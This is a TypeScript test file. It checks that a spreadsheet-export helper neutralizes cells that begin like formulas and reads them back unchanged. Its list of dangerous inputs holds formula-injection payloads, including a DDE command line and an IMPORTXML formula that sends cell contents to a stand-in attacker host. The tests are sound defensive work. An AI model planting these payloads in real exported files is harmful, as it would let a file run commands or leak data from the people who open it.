import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { asMeant, neutralized, withOwnApostrophe } from './spreadsheet-text.ts'

/** What spreadsheet programs run, or did once, when a file is opened. */
const DANGEROUS = [
  '=1+1', "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example","x")', '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")', '+1+1', '+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', '\n=1+1',
  '＝1+1', '＋1', '－1', '＠SUM(1)', '-', '=', '-1', '+32 475 12 34 56',
]
const HARMLESS = ['Jan', "'t Hooft", '’s-Gravenwezel', '0', '00', '7', '007', '2013-04-09', '', ' ', 'a=b', 'Van-de', 'x@y.example', 'Zoë']

describe('[DOMAIN 5] cells that begin like a formula', () => {
  it.each(DANGEROUS)('%j is written as text', text => { expect(neutralized(text)).toBe(`'${text}`) })
  it.each(HARMLESS)('%j stays as it is', text => { expect(neutralized(text)).toBe(text) })
  it.each([...DANGEROUS, ...HARMLESS, "'7", "''", "'=1", "'''-"])('%j is read as it was meant, from CSV and from a workbook', text => {
    expect(asMeant(neutralized(text))).toBe(text)
    expect(asMeant(withOwnApostrophe(text))).toBe(text)
  })
  it('never begin like one, and say the same', () => {
    const text = fc.array(fc.constantFrom("'", '=', '-', '+', '@', '\t', '0', 'a', '＝', 'é'), { maxLength: 6 }).map(signs => signs.join(''))
    fc.assert(fc.property(text, it => {
      expect(neutralized(it)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
      expect(asMeant(neutralized(it))).toBe(it)
      expect(asMeant(withOwnApostrophe(it))).toBe(it)
    }), { numRuns: 1000, seed: 3 })
  })
})
